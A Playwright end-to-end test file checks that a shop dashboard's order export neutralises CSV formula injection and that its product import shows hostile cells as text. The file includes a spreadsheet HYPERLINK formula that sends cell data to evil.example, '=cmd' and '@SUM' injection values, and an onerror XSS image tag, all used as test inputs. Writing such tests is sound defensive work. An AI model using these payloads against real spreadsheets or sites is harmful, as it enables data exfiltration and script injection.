import { randomUUID } from 'node:crypto'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test, type Page } from '@playwright/test'
import Papa from 'papaparse'
import { nodeClient, openDashboard } from './helpers/admin'

// Issue 23, finding 3 end to end (docs/decisions/023-csv-cells.md): what a shopper types reaches Export Orders
// as text a spreadsheet does not run, and Import Products shows a hostile file's cells as text.

test.describe.configure({ mode: 'serial' })

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'

async function runCommand(page: Page, text: string) {
  await page.keyboard.press('Control+k')
  const search = page.getByPlaceholder('Search commands...')
  await expect(search).toBeVisible()
  await search.fill(text)
  await page.keyboard.press('Enter')
  await expect(search).toBeHidden()
}

test('Export Orders writes a shopper’s formula as text', async ({ page, baseURL }) => {
  const anon = await nodeClient(baseURL!)
  const { data: product, error } = await anon
    .from('products')
    .select('id')
    .eq('name', 'Watermelon Sea Salt Gummies')
    .single<{ id: string }>()
  if (error) throw error
  const id = randomUUID()
  const placed = await anon.rpc('place_order', {
    p_order: {
      id,
      secret: `${randomUUID()}${randomUUID()}`.replace(/-/g, ''),
      customer: {
        email: `=cmd-${Date.now()}@example.com`,
        // A line break in the name: papaparse's own escapeFormulae let such a cell through.
        firstName: `${FORMULA}\nx`,
        lastName: '@SUM(1+1)',
        phone: '(510) 555-0188',
      },
      fulfilment: 'delivery',
      deliveryMethod: 'standard',
      shippingAddress: { address1: '12 Grand Ave', city: 'Oakland', state: 'CA', zipCode: '94612' },
      billingAddress: null,
      paymentMethod: 'cash',
      pickupWindow: null,
      items: [{ productId: product.id, quantity: 1 }],
    },
  })
  if (placed.error) throw placed.error

  await openDashboard(page, baseURL!)
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    runCommand(page, 'Export Orders'),
  ])
  const text = await readFile(await file.path(), 'utf8')
  const { data } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true })
  const order = data.find((row) => row.id === id)
  expect(order?.customer_name?.startsWith(`'${FORMULA}\nx`)).toBe(true)
  expect(order?.customer_email).toMatch(/^'=cmd-\d+@example\.com$/)
  // As a spreadsheet reads the file: no cell starts with a formula character.
  const cells = Papa.parse<string[]>(text, { skipEmptyLines: true }).data.flat()
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
})

test('Import Products shows a hostile file’s cells as text and refuses a 50 MB file', async ({
  page,
  baseURL,
}) => {
  let alerted = false
  page.on('dialog', (dialog) => {
    alerted = true
    void dialog.dismiss()
  })
  await openDashboard(page, baseURL!)
  await runCommand(page, 'Import Products')
  const dialog = page.getByRole('dialog', { name: 'Import Products' })
  const markup = '<img src=x onerror=alert(1)>'
  const csv = [
    'sku,name,price,category,media',
    `'-CSV-1,"'${FORMULA.replaceAll('"', '""')}",30,Flower,seed/flower-1.png`,
    `CSV-2,${markup},30,Flower,seed/flower-1.png`,
  ].join('\r\n')
  await dialog
    .getByLabel('CSV file')
    .setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) })
  const rows = dialog.getByTestId('import-row')
  await expect(rows).toHaveCount(2)
  // The export's quote comes off: the preview shows the text the file stands for.
  const cells = (n: number) => rows.nth(n).getByRole('cell')
  await expect(cells(0).nth(1)).toHaveText('-CSV-1')
  await expect(cells(0).nth(2)).toHaveText(FORMULA)
  await expect(cells(1).nth(2)).toHaveText(markup)
  await expect(rows.locator('img')).toHaveCount(0)
  await expect(dialog.getByRole('button', { name: 'Import 2 products' })).toBeEnabled()

  const dir = await mkdtemp(join(tmpdir(), 'humo-csv-'))
  try {
    const big = join(dir, 'big.csv')
    await writeFile(big, Buffer.alloc(50 * 1024 * 1024, 'a,'))
    await dialog.getByLabel('CSV file').setInputFiles(big)
    await expect(dialog.getByRole('alert')).toHaveText(
      'The file is 50.0 MB; Import Products reads files of up to 4.0 MB (5000 products). Split it into smaller files.',
    )
    await expect(dialog.getByRole('button', { name: 'Import 0 products' })).toBeDisabled()
  } finally {
    await rm(dir, { recursive: true, force: true })
  }
  expect(alerted).toBe(false)
  await page.keyboard.press('Escape')
})
